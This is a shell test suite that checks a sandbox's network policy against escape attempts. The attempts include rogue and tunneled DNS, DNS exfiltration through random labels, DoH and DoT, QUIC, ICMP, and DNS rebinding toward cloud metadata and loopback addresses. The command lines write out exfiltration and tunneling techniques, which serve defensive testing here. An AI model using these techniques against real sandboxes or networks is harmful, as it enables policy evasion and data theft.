#!/bin/sh
# dns.sh - escape attempts through DNS and other non-TCP traffic: rogue
# resolvers (UDP, TCP, IPv6), DNS exfiltration, DoH/DoT, port-53 tunnels,
# QUIC and other UDP, ICMP, DNS rebinding into guarded ranges. Judged by the
# resolvers' query logs, the wan servers' log and nftables counters in wan,
# and the runner host's service log.
FILE=dns
. "$(dirname "$0")/lib.sub"

sb_create d1 --allow api.example.com --deny 0.0.0.0/0 || exit 1
sb_create o1 || exit 1			# unrestricted
sb_create lk --profile locked-down || exit 1
sb_create u1 --allow 192.0.2.11 || exit 1
RB="rebind.test meta.test loop.test lb.test hostaddr.test mappedhost.test
mapped.test ll6.test gwaddr.test sbaddr.test zero.test mixed.test"
set --
for n in $RB; do set -- "$@" --allow "$n"; done
sb_create z1 "$@" || exit 1

# the sandbox's resolver (its gateway), as /etc/resolv.conf names it
x d1 'sed -n "s/^nameserver //p" /etc/resolv.conf | head -1'
NS_D=$OUT
x z1 'sed -n "s/^nameserver //p" /etc/resolv.conf | head -1'
NS_Z=$OUT

# qlog NAME [rogue]: queries for NAME in the resolver's log
qlog() {
	_f=$DLOG
	[ "${2:-}" = rogue ] && _f=$RLOG
	grep -c "query\[[A-Z]*\] $1 " "$_f"
}

# --- rogue resolvers: the runner answers whatever address the guest asks
fresh
x d1 'python3 /tmp/a.py dns 203.0.113.53 api.example.com'
chk "rogue resolver over UDP (203.0.113.53): the rogue saw nothing, the runner answered" \
    '[ ! -s "$RLOG" ] && [ "$(wan_n udp 203.0.113.53)" = 0 ] && [ "$(qlog api.example.com)" -ge 1 ] &&
     echo "$OUT" | grep -q "answers: 192.0.2.10"' \
    'rogue log: $(head -c 200 "$RLOG"); udp to it $(wan_n udp 203.0.113.53); $(why)'
fresh
x d1 'python3 /tmp/a.py dns 203.0.113.53 api.example.com --tcp'
# (answered from the runner's answer cache: the case above asked the same)
chk "rogue resolver over TCP: the rogue saw nothing, the runner answered" \
    '[ ! -s "$RLOG" ] && [ "$(wan_n tcp 203.0.113.53)" = 0 ] &&
     echo "$OUT" | grep -q "answers: 192.0.2.10"' \
    'rogue log: $(head -c 200 "$RLOG"); tcp to it $(wan_n tcp 203.0.113.53); $(why)'
fresh
x d1 'python3 /tmp/a.py dns 2001:db8:1::1:53 api.example.com; python3 /tmp/a.py dns 2001:db8:1::1:53 api.example.com --tcp --type AAAA'
chk "rogue resolver over IPv6 (UDP and TCP): the rogue saw nothing" \
    '[ ! -s "$RLOG" ] && [ "$(wan_n all 2001:db8:1::1:53)" = 0 ] &&
     echo "$OUT" | grep -q "answers: 192.0.2.10" && echo "$OUT" | grep -q "answers: 2001:db8:1::10"' \
    'rogue log: $(head -c 200 "$RLOG"); packets to it $(wan_n all 2001:db8:1::1:53); $(why)'
fresh
x o1 'python3 /tmp/a.py dns 203.0.113.53 allowed.test; python3 /tmp/a.py dns 203.0.113.53 other.test --tcp'
chk "rogue resolver from an unrestricted sandbox: still answered by the runner, the rogue saw nothing" \
    '[ ! -s "$RLOG" ] && [ "$(wan_n all 203.0.113.53)" = 0 ] && [ "$(qlog allowed.test)" -ge 1 ] && [ "$(qlog other.test)" -ge 1 ]' \
    'rogue log: $(head -c 200 "$RLOG"); $(why)'
fresh
x d1 'python3 /tmp/a.py dns 203.0.113.53 blocked.test; python3 /tmp/a.py dns 203.0.113.53 blocked.test --tcp'
chk "a name not allowed, asked of the rogue: NXDOMAIN, neither resolver asked" \
    '[ "$(echo "$OUT" | grep -c "status: NXDOMAIN")" = 2 ] && ! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ]' \
    'dns: $(qseen); $(why)'

# --- DNS exfiltration: long unique labels under a name not allowed
fresh
x d1 "python3 /tmp/a.py exfil $NS_D blocked.test 20; python3 /tmp/a.py exfil $NS_D exfil.example.net 10 --tcp"
chk "DNS exfiltration through the sandbox's resolver (30 unique 56-byte labels, A and TXT, UDP and TCP): nothing upstream" \
    'echo "$OUT" | grep -q "answered: 20" && ! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ]' \
    'dns: $(qseen); wan $(wan_n); $(why)'
fresh
x d1 'python3 /tmp/a.py exfil 203.0.113.53 blocked.test 10; python3 /tmp/a.py exfil 2001:db8:1::53 blocked.test 10 --tcp'
chk "DNS exfiltration aimed at the rogue and the authoritative resolvers directly: nothing upstream" \
    '! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ]' \
    'dns: $(qseen); $(why)'
fresh
x d1 'for i in 1 2 3 4 5; do getent hosts "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d " \n").blocked.test"; done; echo done'
chk "DNS exfiltration through libc (getent): nothing upstream" \
    '! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ] && echo "$OUT" | grep -q done' \
    'dns: $(qseen); $(why)'
fresh
x lk 'python3 /tmp/a.py dns 192.0.2.53 api.example.com; python3 /tmp/a.py exfil 203.0.113.53 example.com 10 --tcp; getent hosts pypi.org; echo done'
chk "locked-down: no query at all leaves, not even for names others may use (REFUSED)" \
    'echo "$OUT" | grep -q "status: REFUSED" && ! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ]' \
    'dns: $(qseen); $(why)'
sleep 1.1
audit_of d1
chk "audit: the blocked queries are recorded (dns, blocked, with the name)" \
    'grep "\"verdict\":\"blocked\"" "$T/audit.d1" | grep -q "blocked.test"' \
    '$(grep -c . "$T/audit.d1") events: $(tail -2 "$T/audit.d1")'

fresh
x d1 "python3 /tmp/a.py dns2 $NS_D api.example.com q2-secret.blocked.test; python3 /tmp/a.py dns2 $NS_D api.example.com pipe-secret.blocked.test --pipe"
chk "DNS exfiltration as a second question, or a second query pipelined on TCP behind an allowed one: never upstream" \
    '! grep -q "blocked.test" "$DLOG" "$RLOG" && ! echo "$OUT" | grep -q error' \
    'dns: $(qseen); $(why)'

# --- DoH and DoT to resolver addresses the policy does not allow
fresh
x d1 'curl -sk -m 3 -o /dev/null "https://192.0.2.53/dns-query?dns=AAABAAABAAAAAAAAA2FwaQdleGFtcGxlA2NvbQAAAQAB"; curl -sk -m 3 -o /dev/null https://203.0.113.53/dns-query; curl -sk -m 3 -o /dev/null "https://[2001:db8:1::53]/dns-query"; echo rc=$?'
chk "DoH (TCP 443) to three resolver addresses: nothing reached them" \
    '[ "$(wan_n tcp)" = 0 ] && [ ! -s "$WLOG" ] && echo "$OUT" | grep -q "rc=[1-9]"' \
    'tcp $(wan_n tcp); wan log $(head -c 300 "$WLOG"); $(why)'
fresh
x d1 'python3 /tmp/a.py tcp 192.0.2.53:853 --data "\x00\x1d"; python3 /tmp/a.py tcp 203.0.113.53:853 --wait 1.2; python3 /tmp/a.py tcp [2001:db8:1::1:53]:853 --wait 1.2'
chk "DoT (TCP 853) to resolver addresses: nothing reached them" \
    '[ "$(wan_n tcp)" = 0 ]' 'tcp $(wan_n tcp); $(why)'
fresh
x d1 'python3 /tmp/a.py resolve api.example.com >/dev/null; python3 /tmp/a.py hello 192.0.2.53:443 --sni api.example.com --path /doh-front'
chk "DoH fronted by the allowed name (SNI api.example.com to 192.0.2.53): served by 192.0.2.10, the resolver saw nothing" \
    'seen "\"dst\":\"192.0.2.10\",\"dport\":443,.*\"path\":\"/doh-front\"" && [ "$(wan_n tcp 192.0.2.53)" = 0 ]' \
    'tcp to 192.0.2.53: $(wan_n tcp 192.0.2.53); wan log $(head -c 300 "$WLOG"); $(why)'

# --- port-53 tunnels: whatever goes to port 53 is the runner's to answer
fresh
x o1 'python3 /tmp/a.py tcp 192.0.2.12:53 --data "GET / HTTP/1.1\r\nHost: blocked.test\r\n\r\n" --wait 1; python3 /tmp/a.py tcp 192.0.2.10:53 --data "\x00\x10SSH-2.0-tunnel\r\n" --wait 1; python3 /tmp/a.py tcp [2001:db8:1::12]:53 --data "tunnel" --wait 1'
chk "port-53 tunnel over TCP from an unrestricted sandbox (HTTP, framed junk, IPv6): nothing reached port 53 in wan" \
    '[ "$(wan_n tcp 192.0.2.12 53)" = 0 ] && [ "$(wan_n tcp 192.0.2.10 53)" = 0 ] && [ "$(wan_n tcp 2001:db8:1::12 53)" = 0 ] && [ "$(wan_n tcp)" = 0 ]' \
    'tcp $(wan_n tcp); $(why)'
fresh
x o1 'python3 /tmp/a.py udp 192.0.2.12:53 --data "tunnel-bytes-not-dns"; python3 /tmp/a.py udp [2001:db8:1::12]:53 --data "more tunnel bytes"'
chk "port-53 tunnel over UDP from an unrestricted sandbox: nothing reached wan" \
    '[ "$(wan_n)" = 0 ] && [ ! -s "$WLOG" ]' 'packets $(wan_n); $(why)'
fresh
x d1 'gw=$(sed -n "s/^nameserver //p" /etc/resolv.conf | head -1); python3 /tmp/a.py dns $gw blocked.test --port 15053; python3 /tmp/a.py dns $gw blocked.test --port 15053 --tcp; python3 /tmp/a.py tcp $gw:15002'
chk "the gateway's own DNS and relay ports, asked directly: the same policy, nothing upstream" \
    '! grep -q "query\[" "$DLOG" "$RLOG" && [ "$(wan_n)" = 0 ] && ! echo "$OUT" | grep -q "answers: [0-9]"' \
    'dns $(qseen); $(why)'

# --- QUIC and other UDP: decided by address rules only
fresh
x d1 'python3 /tmp/a.py quic 192.0.2.10:443; python3 /tmp/a.py quic [2001:db8:1::10]:443'
chk "QUIC (UDP 443) to the allowed name's address: a name rule does not allow UDP, nothing reached wan" \
    '[ "$(wan_n udp)" = 0 ] && [ ! -s "$WLOG" ]' 'udp $(wan_n udp); $(why)'
fresh
x d1 'python3 /tmp/a.py quic 192.0.2.12:443; python3 /tmp/a.py udp 192.0.2.12:9999; python3 /tmp/a.py udp 192.0.2.12:7'
chk "QUIC and UDP echo to a blocked IPv4 address: nothing reached wan" \
    '[ "$(wan_n udp)" = 0 ] && [ ! -s "$WLOG" ]' 'udp $(wan_n udp); $(why)'
fresh
x d1 'python3 /tmp/a.py udp [2001:db8:1::12]:9999; python3 /tmp/a.py quic [2001:db8:1::12]:443'
chk "UDP over IPv6 with only an IPv4 catch-all given: nothing reached wan" \
    '[ "$(wan_n udp)" = 0 ] && [ ! -s "$WLOG" ]' 'udp $(wan_n udp); $(why)'
fresh
x u1 'python3 /tmp/a.py udp 192.0.2.11:9999; python3 /tmp/a.py udp 192.0.2.12:9999; python3 /tmp/a.py udp [2001:db8:1::11]:9999'
chk "UDP allowed by an address rule (192.0.2.11) gets echoes; its neighbours .12 and IPv6 get nothing" \
    'echo "$OUT" | head -1 | grep -q "echoes: 2" && seen "\"proto\":\"udp\",\"server\":\"udp-echo\",\"dst\":\"192.0.2.11\"" &&
     [ "$(wan_n udp 192.0.2.12)" = 0 ] && [ "$(wan_n udp 2001:db8:1::11)" = 0 ]' \
    'udp .12 $(wan_n udp 192.0.2.12), v6 $(wan_n udp 2001:db8:1::11); wan log $(head -c 200 "$WLOG"); $(why)'

# --- ICMP
fresh
x d1 'python3 /tmp/a.py icmp 192.0.2.10; python3 /tmp/a.py icmp 2001:db8:1::10; ping -c1 -W1 192.0.2.10; busybox ping -c1 -W1 192.0.2.12; echo done'
chk "ICMP echo (ping sockets, raw sockets, ping) v4 and v6: nothing reached wan" \
    '[ "$(wan_n icmp)" = 0 ] && [ "$(wan_n icmpv6)" = 0 ] && [ "$(wan_n)" = 0 ] && echo "$OUT" | grep -q done' \
    'icmp $(wan_n icmp) icmpv6 $(wan_n icmpv6); $(why)'

# --- DNS rebinding into guarded ranges. Each name is allowed by the
# policy (the query goes upstream), each resolves upstream to a guarded
# address: the sandbox must get no address, and a Host naming it sent to
# some wan address must reach no service of the runner host (which listens
# on every address of its own, 127.0.0.1 included, on 8022).
universe_dns_add "$U" mixed.test 192.0.2.11 127.0.0.1
# what the authoritative resolver holds, asked directly from the host: each
# record must exist upstream, or its case proves nothing
UP=$(for n in $RB; do
	universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" A
	universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" AAAA
done 2>&1)
for spec in rebind.test=169.254.169.254 meta.test=169.254.169.254 \
    loop.test=127.0.0.1,::1 lb.test=127.0.0.2 \
    hostaddr.test=198.51.100.1,2001:db8:ffff::1 \
    mappedhost.test=::ffff:198.51.100.1 mapped.test=::ffff:127.0.0.1 \
    ll6.test=fe80::1 gwaddr.test=100.64.0.1,2001:db8:4952::1 \
    sbaddr.test=100.64.0.6,2001:db8:4952:1::2 zero.test=0.0.0.0,::; do
	n=${spec%%=*}
	addrs=${spec#*=}
	up=$(echo "$UP" | grep "^$n\.\? ")
	fresh
	x z1 "python3 /tmp/a.py dns $NS_Z $n; python3 /tmp/a.py dns $NS_Z $n --type AAAA --tcp; python3 /tmp/a.py resolve $n;
	    python3 /tmp/a.py http 192.0.2.12:8022 --head 'GET /rb HTTP/1.1\r\nHost: $n\r\n\r\n';
	    python3 /tmp/a.py http [2001:db8:1::12]:8022 --head 'GET /rb HTTP/1.1\r\nHost: $n:8022\r\n\r\n';
	    python3 /tmp/a.py hello 192.0.2.12:8022 --sni $n"
	chk "DNS rebinding: $n ($addrs) resolves to nothing, a spoofed name of it reaches no host service" \
	    'echo "$up" | grep -Eq "^$n\.? [0-9]+ (A|AAAA) " &&
	     [ "$(qlog "$n")" -ge 1 ] && [ ! -s "$HLOG" ] && [ "$(wan_n tcp)" = 0 ] &&
	     ! echo "$OUT" | grep -Eq "answers: [0-9a-f]|addresses: [0-9a-f]"' \
	    'upstream has: $(echo "$up" | grep -v status); host service log: $(head -c 300 "$HLOG"); tcp to wan $(wan_n tcp); $(why)'
done
fresh
x z1 "python3 /tmp/a.py dns $NS_Z mixed.test; python3 /tmp/a.py http 192.0.2.12:80 --head 'GET /mixed HTTP/1.1\r\nHost: mixed.test\r\n\r\n'"
chk "DNS rebinding, mixed answer (192.0.2.11 and 127.0.0.1): only 192.0.2.11 is kept and serves" \
    'echo "$OUT" | grep -q "^answers: 192.0.2.11$" && seen "\"dst\":\"192.0.2.11\",\"dport\":80,.*\"path\":\"/mixed\"" && [ ! -s "$HLOG" ]' \
    'wan log $(head -c 200 "$WLOG"); host log $(head -c 200 "$HLOG"); $(why)'
